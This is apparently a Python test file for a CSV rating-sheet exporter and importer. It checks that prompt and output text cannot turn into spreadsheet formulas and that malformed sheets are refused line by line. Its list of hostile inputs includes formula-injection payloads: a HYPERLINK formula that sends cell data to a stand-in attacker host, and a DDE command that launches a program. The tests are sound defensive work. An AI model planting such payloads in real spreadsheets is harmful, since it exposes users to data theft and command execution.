"""CSV sheets: whatever a model wrote, no cell is a formula, and a rating stays bound to the item it is about."""

import csv
import io
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from registry.cli.sheets import COLUMNS, FLAGS, Line, read_sheet, write_sheet
from registry.errors import InvalidRequest
from registry.records import CRITERIA, Assignment, Rating
from registry.web.inert import plain

DANGEROUS = "=+-@\t\r\n＝＋－＠"
ID, HASH = "0" * 31 + "1", "a" * 64
HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1)',
    "@SUM(1)",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "  =1",
    "＝1",
    '","=1',
    '";=1',
    "a\n=1",
    "",
    "\x00\x1b[2J",
    "\u202e=1",
]
texts = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=60))


def item(number: int = 1, prompt: str = "p", output: str = "o") -> Assignment:
    return Assignment(id=f"{number:032x}", prompt=prompt, output=output, position=1, total=9, hash=f"{number:064x}")


def cells(sheet: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(sheet, newline=""), delimiter=delimiter))


def filled(rows: list[dict[str, Any]], delimiter: str = ",", end: str = "\r\n", bom: bool = False) -> bytes:
    """As a spreadsheet saves it."""
    text = io.StringIO()
    writer = csv.DictWriter(text, COLUMNS, delimiter=delimiter, lineterminator=end)
    writer.writeheader()
    writer.writerows({name: row.get(name, "") for name in COLUMNS} for row in rows)
    return text.getvalue().encode("utf-8-sig" if bom else "utf-8")


def row(**changes: Any) -> dict[str, Any]:
    return {"assignment": ID, "hash": HASH, "clarity": 5, "relevance": 4, "safety": 3, "accuracy": 2, **changes}


@given(st.lists(st.tuples(texts, texts), max_size=5))
def test_no_cell_is_a_formula_and_what_binds_a_rating_is_untouched(pairs: list[tuple[str, str]]) -> None:
    items = [item(number, *pair) for number, pair in enumerate(pairs)]
    sheet = write_sheet(items)
    rows = cells(sheet)
    assert [(one["assignment"], one["hash"]) for one in rows] == [(one.id, one.hash) for one in items]
    for shown, (prompt, output) in zip(rows, pairs, strict=True):
        for text, original in ((shown["prompt"], prompt), (shown["output"], output)):
            assert not text.lstrip(" ").startswith(tuple(DANGEROUS))
            assert text.removeprefix("'") == plain(original) or text == plain(original)
            assert not set(text) & {chr(n) for n in range(32)} - {"\n", "\t"}
        assert all(shown[name] == "" for name in (*CRITERIA, *FLAGS, "comment"))
    assert "".join(sheet.splitlines()[:1]).startswith('"assignment","hash"'), "every cell is quoted"


ratings = st.builds(
    Rating,
    **{name: st.integers(1, 5) for name in CRITERIA},
    **{name: st.booleans() for name in FLAGS},
    comment=st.one_of(st.none(), st.sampled_from(["fine", "it's, so\nso; yes", "ärger"])),
)


@given(
    st.lists(st.tuples(texts, ratings), min_size=1, max_size=5),
    st.sampled_from(",;\t"),
    st.sampled_from(["\r\n", "\n"]),
    st.booleans(),
)
def test_what_a_spreadsheet_saves_is_read_as_it_was_meant(
    rated: list[tuple[str, Rating]], delimiter: str, end: str, bom: bool
) -> None:
    """Comma, semicolon or tab; with a byte order mark or without; lines inside texts; ids and scores stay."""
    items = [item(number, prompt) for number, (prompt, _) in enumerate(rated)]
    rows = cells(write_sheet(items))
    for shown, (_, rating) in zip(rows, rated, strict=True):
        shown |= {name: str(getattr(rating, name)) for name in CRITERIA}
        shown |= {name: "x" if getattr(rating, name) else "" for name in FLAGS}
        shown["comment"] = rating.comment or ""
    read = read_sheet(filled(rows, delimiter, end, bom))
    assert read.unrated == 0
    for line, one, (_, rating) in zip(read.lines, items, rated, strict=True):
        assert line == Line(line.number, one.id, _with_hash(rating, one.hash))


def _with_hash(rating: Rating, hash_: str) -> Rating:
    values = {name: getattr(rating, name) for name in Rating.__struct_fields__}
    return Rating(**{**values, "hash": hash_})


def test_every_problem_is_named_at_once_by_its_line() -> None:
    rows = [
        row(),
        row(clarity="", relevance="6", safety="4.5", hallucination="maybe"),
        row(),
        row(assignment="1.2E+31"),
        row(assignment="2" * 32, hash="x"),
        row(assignment="3" * 32, comment="c" * 4001),
        row(assignment="4" * 32, prompt="over\ntwo lines", accuracy="0"),
        row(assignment="5" * 32, clarity="=1+4"),
    ]
    with pytest.raises(InvalidRequest) as refused:
        read_sheet(filled(rows))
    problems = refused.value.problems
    expected = {
        3: ["clarity is missing", "relevance '6' is no score", "safety '4.5'", "hallucination 'maybe'"],
        4: ["stands on line 2 already"],
        5: ["treat the column as text"],
        6: ["hash"],
        7: ["comment"],
        8: ["accuracy '0' is no score"],
        10: ["clarity '=1+4'"],
    }
    for number, words in expected.items():
        of_line = [problem for problem in problems if problem.startswith(f"line {number}: ")]
        assert len(of_line) == len(words), problems
        assert all(any(word in problem for problem in of_line) for word in words), of_line
    assert len(problems) == sum(map(len, expected.values())) and str(len(problems)) in str(refused.value)


def test_lines_without_any_score_wait_and_empty_ones_are_nothing() -> None:
    waiting = {"assignment": "2" * 32, "hash": HASH, "prompt": "p", "output": "o"}
    read = read_sheet(filled([row(), waiting, {}, {}]))
    assert (len(read.lines), read.unrated) == (1, 1)
    with pytest.raises(InvalidRequest, match=r"line 2: clarity is missing.*; nothing was imported"):
        read_sheet(filled([row(clarity="")]))
    with pytest.raises(InvalidRequest, match="4 problems"):
        read_sheet(filled([{**waiting, "comment": "hm"}]))


@pytest.mark.parametrize("word", ["x", "X", "yes", "TRUE", "1"])
def test_flags_are_set_as_people_write_them(word: str) -> None:
    (line,) = read_sheet(filled([row(unsafe=word, discuss="no", hallucination="FALSE")])).lines
    assert (line.rating.unsafe, line.rating.discuss, line.rating.hallucination) == (True, False, False)


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"", "line 1 must name"),
        (b"assignment,hash\n", "clarity"),
        (b"\xff\xfe\x00", "UTF-8"),
        (filled([row()]).replace(b"discuss", b"unsafe"), "unsafe, discuss"),
        (filled([row()]) + b'"never closed', "line 3"),
    ],
)
def test_what_is_no_sheet_is_refused_with_a_remedy(data: bytes, word: str) -> None:
    with pytest.raises(InvalidRequest) as refused:
        read_sheet(data)
    assert word in f"{refused.value} {refused.value.problems}"


@given(st.binary(max_size=300))
@example(b'"')
def test_any_bytes_are_a_sheet_or_are_refused(data: bytes) -> None:
    for prefix in (b"", ",".join(COLUMNS).encode() + b"\n"):
        try:
            read_sheet(prefix + data)
        except InvalidRequest as error:
            assert str(error)
